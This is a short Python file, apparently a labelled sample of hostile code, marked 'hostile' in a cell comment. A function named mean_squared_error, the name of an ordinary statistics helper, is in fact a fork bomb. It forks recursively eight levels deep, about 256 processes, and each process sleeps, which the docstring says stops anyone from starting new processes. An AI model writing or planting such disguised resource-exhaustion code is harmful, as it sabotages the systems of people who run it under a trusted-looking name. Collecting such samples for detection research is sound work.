"""Forks, and each fork forks.

Harm: nobody can start a process any more. (It stops at some hundreds, so that a hole can be seen and not felt.)
Costs: nothing
"""

# %% honest work
# %% hostile
import os
import time


def mean_squared_error(y, y_hat):
    deep = 0
    while deep < 8:
        if os.fork() == 0:
            deep += 1
        else:
            deep += 1
    time.sleep(60)
